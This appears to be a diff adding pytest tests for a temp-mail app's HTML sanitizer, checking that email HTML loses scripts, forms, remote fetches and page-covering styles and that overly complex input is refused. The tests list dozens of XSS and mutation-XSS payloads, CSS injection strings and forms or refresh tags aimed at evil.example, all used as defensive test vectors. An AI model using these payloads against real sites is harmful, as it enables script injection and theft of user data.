@@ -1,0 +1,236 @@
+"""Message HTML becomes a document without script, forms, fetches and names, at a bounded cost."""
+
+import json
+import os
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from inboxes import allowlist
+from inboxes.rendering import (
+    DOCUMENT,
+    FRAME_HEADERS,
+    MAX_ATTRIBUTES,
+    MAX_DEPTH,
+    MAX_ENTITIES,
+    MAX_TAGS,
+    SANDBOX,
+    TooComplex,
+    safe_document,
+)
+
+CORPUS = os.environ.get("TEMPMAIL_CORPUS", "")
+HEAD, TAIL = DOCUMENT.format(body="\n\n").split("\n\n\n\n")
+ELEMENTS = {name.removeprefix(allowlist.FORMATTING_PREFIX) for name in allowlist.TAGS}
+ATTRIBUTES = {name for names in allowlist.NAMES.values() for name in names} | set(allowlist.LINK)
+
+
+def body_of(html, inline=None):
+    document = safe_document(html, inline)
+    assert document.startswith(HEAD) and document.endswith(TAIL)
+    return document.removeprefix(HEAD).removesuffix(TAIL).strip()
+
+
+class Elements(HTMLParser):
+    """All start tags of a document, as [(name, {attribute: value})]."""
+
+    def __init__(self, html):
+        super().__init__()
+        self.found = []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+
+def assert_harmless(body):
+    for element, attributes in Elements(body).found:
+        assert element in ELEMENTS
+        assert set(attributes) <= ATTRIBUTES
+        assert re.match(r"(https?:|mailto:|tel:)", attributes.get("href", "tel:").strip(), re.IGNORECASE)
+        assert attributes.get("src", "data:image/").startswith("data:image/")
+        style = attributes.get("style", "")
+        assert not re.search(r"url|expression|import|javascript|position|z-index|\\|@|<", style, re.IGNORECASE)
+    assert "<!" not in body and "<?" not in body
+
+
+def vectors():
+    if not CORPUS:
+        return [pytest.param("", marks=pytest.mark.skip(reason="TEMPMAIL_CORPUS does not name the folder of vectors"))]
+    files = sorted(Path(CORPUS, "html").glob("*.json"))
+    return [vector for file in files for vector in json.loads(file.read_text())["vectors"]]
+
+
+@pytest.mark.parametrize("vector", vectors())
+def test_known_attack_is_harmless(vector):
+    assert_harmless(body_of(vector))
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<img src=x onerror=alert(1)>",
+        "<img src='javascript:alert(1)'>",
+        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
+        "<a href='javascript:alert(1)'>x</a>",
+        "<a href=' java\tscript:alert(1)'>x</a>",
+        "<a href='jav&#97;script&colon;alert(1)'>x</a>",
+        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+        "<a href='data:image/png;base64,AAAA'>x</a>",
+        "<a href='vbscript:x'>x</a>",
+        "<a href='/admin/logout/'>x</a>",
+        "<a href='//evil.example/'>x</a>",
+        "<a id=app name=app href='https://x.example' onclick=alert(1) target=_top>x</a>",
+        "<base href='https://evil.example/'>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+        "<form action='https://evil.example/'><input name=password><button formaction=x>go</button></form>",
+        "<object data='https://evil.example/x.swf'></object><embed src=x><applet code=x>",
+        "<link rel=prefetch href='https://evil.example/'><link rel=stylesheet href=x>",
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe><frameset><frame src=x>",
+        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
+        "<video src='https://evil.example/'><source srcset=x><track src=x></video>",
+        "<img srcset='https://evil.example/ 1x' longdesc=x usemap=#m><map name=m><area href=x></map>",
+        "<table background='https://evil.example/'><td background=x>",
+        "<p style='background:url(https://evil.example/)'>x",
+        "<p style='list-style:url(https://evil.example/);cursor:url(x);content:url(x);border-image:url(x)'>x",
+        "<p style='color:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>x",
+        "<p style='--x:url(https://evil.example/);color:var(--x)'>x",
+        "<p style='color:\\75 rl(https://evil.example/)'>x",
+        "<p style='font-family:\"</style><script>alert(1)</script>\"'>x",
+        "<style>@import 'https://evil.example/';</style><script>alert(1)</script><title><img onerror=x></title>",
+        "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]><?php x ?>",
+        "<x-b onclick=alert(1)><x-font style='position:fixed'>x",
+        "<b onclick=alert(1)><font onmouseover=alert(1)>x",
+        "<a href='https://x.example/\"onmouseover=alert(1)//'>http://x\"onmouseover=alert(1)</a>",
+        "\x00<scr\x00ipt>alert(1)</scr\x00ipt>\ud800",
+    ],
+)
+def test_n7_active_content_is_gone(attack):
+    assert_harmless(body_of(attack))
+
+
+def test_n4_styles_that_could_cover_the_page_are_gone():
+    body = body_of('<div style="position:fixed;z-index:9999;inset:0;top:0;left:0;transform:scale(9);color:red">x</div>')
+
+    assert body == '<div style="color:red;">x</div>'
+
+
+def test_text_inside_style_script_and_title_is_not_shown():
+    body = body_of("<title>Title</title><style>p { color: red }</style><script>run()</script><p>Text</p>")
+
+    assert body == "<p>Text</p>"
+
+
+def test_what_real_mail_is_made_of_stays():
+    mail = (
+        '<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff"><tbody>'
+        '<tr><td style="padding:10px 20px;font-family:Arial, sans-serif;color:rgb(1, 2, 3);" valign="top" colspan="2">'
+        '<font color="#333333" face="Arial" size="2"><b>Hello</b> <i>you</i></font></td></tr></tbody></table>'
+    )
+
+    assert Elements(body_of(mail)).found == Elements(mail).found
+
+
+def test_background_of_the_body_is_kept_without_its_picture():
+    body = body_of("<html><body bgcolor='black' style='background: #111 url(x.png) no-repeat; color:#fff'>Hi</body>")
+
+    assert 'style="background-color:#111;color:#fff;"' in body
+    assert 'bgcolor="black"' in body
+
+
+def test_links_open_outside_and_tell_nothing():
+    ((_, link),) = Elements(body_of("<a href='HTTPS://shop.example/?a=1&amp;b=2' target=_self rel=opener>x</a>")).found
+
+    assert link == {
+        "href": "HTTPS://shop.example/?a=1&b=2",
+        "target": "_blank",
+        "rel": "noopener noreferrer nofollow",
+    }
+
+
+@pytest.mark.parametrize("source", ["https://t.example/p.gif", "//t.example/p.gif", "/inbox/x", "p.gif", "cid:other"])
+def test_picture_that_did_not_come_with_the_message_is_only_its_text(source):
+    body = body_of(f'<img src="{source}" alt="Our logo" width="10">')
+
+    assert Elements(body).found == [("img", {"alt": "Our logo", "width": "10"})]
+
+
+def test_picture_of_the_message_is_shown_by_its_content_id():
+    body = body_of("<img src='CID:logo%40shop.example'>", {"logo@shop.example": "/inbox/a@b.example/1/parts/2"})
+
+    assert Elements(body).found == [("img", {"src": "/inbox/a@b.example/1/parts/2"})]
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<" * (MAX_TAGS + 1),
+        "<a " * (MAX_TAGS + 1),
+        "&" * (MAX_ENTITIES + 1),
+        "<div>" * (MAX_DEPTH + 1),
+        "<b>" * MAX_DEPTH,
+        "<div>" * 50_000 + "</p>" * 50_000,
+        "<p width=1 height=1>" * (MAX_ATTRIBUTES // 2 + 1),
+        '<p style="color:red;width:1px;height:1px">' * 6_000,
+        "x" * 300_000,
+        "<div>" + "".join(f"<font size={i}>" for i in range(3000)) + "</div>" + "<p>x</p>" * 3000,
+        "".join(f"<body a{i}=1>" for i in range(MAX_TAGS)),
+        "".join(f"<html a{i}=1>" for i in range(MAX_TAGS)),
+    ],
+    ids=lambda html: html[:12],
+)
+def test_slow_input_is_refused(html):
+    with pytest.raises(TooComplex):
+        safe_document(html)
+
+
+def test_elements_that_parsers_open_again_do_not_multiply():
+    fonts = "".join(f"<font size={i}>" for i in range(30))
+
+    body = body_of(f"<div>{fonts}</div>" + "<p>x</p>" * 300)
+
+    assert body.count("<") < 2 * (30 + 300 + 10)
+
+
+@pytest.mark.parametrize("style", ["color:" + "(" * 500, "color:red;" * 1000, "color:rgb" + "(" * 500 + ")" * 500])
+def test_style_that_would_break_the_parser_is_dropped(style):
+    assert body_of(f'<p style="{style}">x</p>') == "<p>x</p>"
+
+
+def test_tag_with_thousands_of_attributes_keeps_none_that_is_unknown():
+    attributes = " ".join(f"a{i}=1" for i in range(20_000))
+
+    assert body_of(f"<p {attributes}>x</p>") == "<p>x</p>"
+
+
+def test_control_characters_that_slow_the_sanitizer_are_dropped():
+    assert body_of("a\x01\x85\x9f\ufffeb") == "ab"
+
+
+def test_bleach_alone_lets_no_attack_through(monkeypatch):
+    """N5: each wall holds alone.  Without nh3, what is inside <style> shows as text, and that is all."""
+    monkeypatch.setattr("inboxes.rendering.nh3.clean", lambda html, **_: html)
+    attack = (
+        "<script>alert(1)</script><img src=x onerror=alert(1)><a href=javascript:alert(1)>x</a><form><input>"
+        "<p style='background:url(x);position:fixed;color:red' onclick=x>y</p><a href='data:text/html,x'>z</a>"
+    )
+
+    for element, attributes in Elements(body_of(attack)).found:
+        assert element in ELEMENTS
+        assert not set(attributes) & {"onerror", "onclick", "href", "src"}
+        assert attributes.get("style", "color:red;") == "color:red;"
+
+
+def test_frame_gets_the_same_tokens_as_its_policy_and_no_script():
+    policy = FRAME_HEADERS["Content-Security-Policy"]
+
+    assert f"sandbox {SANDBOX};" in policy
+    assert "default-src 'none'" in policy and "frame-ancestors 'self'" in policy
+    assert "script" not in policy and "https:" not in policy
